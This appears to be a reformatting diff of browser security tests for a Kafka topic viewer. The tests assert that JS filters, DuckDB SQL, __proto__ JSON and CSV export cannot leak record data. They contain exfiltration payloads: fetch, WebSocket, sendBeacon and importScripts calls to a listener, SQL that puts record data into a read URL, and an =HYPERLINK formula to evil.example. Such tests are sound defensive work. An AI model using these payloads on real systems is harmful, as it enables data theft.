@@ -36,7 +36,11 @@ before(async () => {
   [tansu, registry] = await Promise.all([startTansu(), startRegistry()]);
   bombs = bombTopic(registry);
   await produce(tansu, { topic: bombs.topic, create: { partitions: 1 }, records: bombs.records });
-  await produce(tansu, { topic: 'orders', create: { partitions: 1 }, records: ORDERS.map((v) => ({ partition: 0, value_b64: Buffer.from(v).toString('base64') })) });
+  await produce(tansu, {
+    topic: 'orders',
+    create: { partitions: 1 },
+    records: ORDERS.map((v) => ({ partition: 0, value_b64: Buffer.from(v).toString('base64') })),
+  });
   listener = http.createServer((req, res) => {
     reached.push(`${req.method} ${req.url}`);
     res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
@@ -64,13 +68,20 @@ async function tail(query, count) {
   await page.waitForSelector('#filters:not([data-busy])', { timeout: 30_000 });
 }
 
-test('a link\'s JS filter and SQL are shown, not run; run by a click, they still cannot reach the listener', { timeout: 180_000 }, async () => {
+test("a link's JS filter and SQL are shown, not run; run by a click, they still cannot reach the listener", { timeout: 180_000 }, async () => {
   const target = `127.0.0.1:${listener.address().port}`;
   // every way out a worker has, each tried; the filter matches every record once it has run
-  const ways = [`fetch('http://${target}/f?' + JSON.stringify(value))`, `import('http://${target}/m.js')`, 'import(\'/pkg/web.mjs\')',
-    `new WebSocket('ws://${target}/w')`, `new EventSource('http://${target}/e')`, `importScripts('http://${target}/i.js')`,
-    `{ const x = new XMLHttpRequest(); x.open('GET', 'http://${target}/x'); x.send(); }`, `new Worker('data:text/javascript,fetch("http://${target}/n")')`,
-    `navigator.sendBeacon('http://${target}/b', 'x')`];
+  const ways = [
+    `fetch('http://${target}/f?' + JSON.stringify(value))`,
+    `import('http://${target}/m.js')`,
+    "import('/pkg/web.mjs')",
+    `new WebSocket('ws://${target}/w')`,
+    `new EventSource('http://${target}/e')`,
+    `importScripts('http://${target}/i.js')`,
+    `{ const x = new XMLHttpRequest(); x.open('GET', 'http://${target}/x'); x.send(); }`,
+    `new Worker('data:text/javascript,fetch("http://${target}/n")')`,
+    `navigator.sendBeacon('http://${target}/b', 'x')`,
+  ];
   const js = `(() => { for (const go of [${ways.map((w) => `() => ${w}`).join(', ')}]) { try { go()?.catch?.(() => {}); } catch {} } return true; })()`;
   // record data put into a URL, then read (the typed attack: SET VARIABLE and getvariable)
   const sql = `SET VARIABLE u = 'http://${target}/sql?' || (SELECT string_agg(value::VARCHAR, ',') FROM records); SELECT * FROM read_text(getvariable('u'))`;
@@ -105,9 +116,15 @@ test('a link\'s JS filter and SQL are shown, not run; run by a click, they still
   // and the SQL: DuckDB reads no URL, and its setting cannot be turned back
   await page.click('#sql-open');
   await page.waitForSelector('#sql-state:not([data-kind="busy"])', { timeout: 90_000 });
-  for (const [query, refusal] of [[sql, /Permission Error: .*disabled by configuration/], ["SET enable_external_access = true", /configuration has been locked/], ['LOAD httpfs', /Loading external extensions is disabled/]]) {
+  for (const [query, refusal] of [
+    [sql, /Permission Error: .*disabled by configuration/],
+    ['SET enable_external_access = true', /configuration has been locked/],
+    ['LOAD httpfs', /Loading external extensions is disabled/],
+  ]) {
     await page.fill('#sql-text', query);
-    await page.evaluate(() => { document.getElementById('sql-state').dataset.kind = 'pending'; });
+    await page.evaluate(() => {
+      document.getElementById('sql-state').dataset.kind = 'pending';
+    });
     await page.click('#sql-run');
     await page.waitForSelector('#sql-state[data-kind="error"], #sql-state[data-kind="ok"]', { timeout: 60_000 });
     assert.match(await page.textContent('#sql-state'), refusal, query);
@@ -117,7 +134,10 @@ test('a link\'s JS filter and SQL are shown, not run; run by a click, they still
   // the page's own policy says where it may connect: its origin and its relay
   const policy = (await page.request.get(`${ui.origin}/www/`)).headers()['content-security-policy'];
   assert.match(policy, /connect-src 'self' ws:\/\/127\.0\.0\.1:\d+(;|$)/);
-  assert.equal((await page.request.get(`${ui.origin}/www/workers/js-filter/js-worker.js`)).headers()['content-security-policy'], "default-src 'none'; script-src 'unsafe-eval'");
+  assert.equal(
+    (await page.request.get(`${ui.origin}/www/workers/js-filter/js-worker.js`)).headers()['content-security-policy'],
+    "default-src 'none'; script-src 'unsafe-eval'",
+  );
   await page.click('#sql-close');
 });
 
@@ -125,9 +145,9 @@ test('a topic of Avro count bombs: every record shown at once, the bombs as valu
   const started = Date.now();
   await tail(`mode=live&topic=${bombs.topic}`, bombs.expected.length);
   const ms = Date.now() - started;
-  const values = await page.$$eval('#records .vrows .vrow:not([hidden])', (rows) => rows
-    .sort((a, b) => Number(a.dataset.row) - Number(b.dataset.row))
-    .map((r) => r.querySelector('[data-column="value"]').textContent));
+  const values = await page.$$eval('#records .vrows .vrow:not([hidden])', (rows) =>
+    rows.sort((a, b) => Number(a.dataset.row) - Number(b.dataset.row)).map((r) => r.querySelector('[data-column="value"]').textContent),
+  );
   assert.equal(values.length, bombs.expected.length);
   bombs.expected.forEach((want, i) => {
     if (want.bomb) assert.doesNotMatch(values[i], /"n"/, `offset ${i}: ${want.bomb}`);
@@ -148,17 +168,25 @@ test('a JSON member named __proto__ is data in the table, the detail and SQL; a 
   await page.click('#sql-open');
   await page.waitForSelector('#sql-state:not([data-kind="busy"])', { timeout: 90_000 });
   await page.fill('#sql-text', `SELECT value_decoded FROM records WHERE value_decoded LIKE '%isAdmin%'`);
-  await page.evaluate(() => { document.getElementById('sql-state').dataset.kind = 'pending'; });
+  await page.evaluate(() => {
+    document.getElementById('sql-state').dataset.kind = 'pending';
+  });
   await page.click('#sql-run');
   await page.waitForSelector('#sql-state[data-kind="ok"]', { timeout: 60_000 });
   assert.equal(await page.textContent('#sql-results .vrow[data-row="0"] .vcell'), '{"__proto__":{"isAdmin":true},"user":"mallory"}');
   await page.click('#sql-close');
-  if (!await page.isVisible('#export')) await page.click('#export-menu > summary');
+  if (!(await page.isVisible('#export'))) await page.click('#export-menu > summary');
   await page.selectOption('#export-format', 'csv');
   await page.selectOption('#export-mode', 'text');
   const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
-  const lines = fs.readFileSync(await download.path(), 'utf8').trim().split('\n');
-  assert.ok(lines.some((l) => l.includes('"\'=HYPERLINK(""http://evil.example/?x"",""click"")"')), lines.at(-1));
+  const lines = fs
+    .readFileSync(await download.path(), 'utf8')
+    .trim()
+    .split('\n');
+  assert.ok(
+    lines.some((l) => l.includes('"\'=HYPERLINK(""http://evil.example/?x"",""click"")"')),
+    lines.at(-1),
+  );
   assert.ok(!lines.some((l) => /,"?=HYPERLINK/.test(l)));
   assert.deepEqual(pageErrors, []);
 });
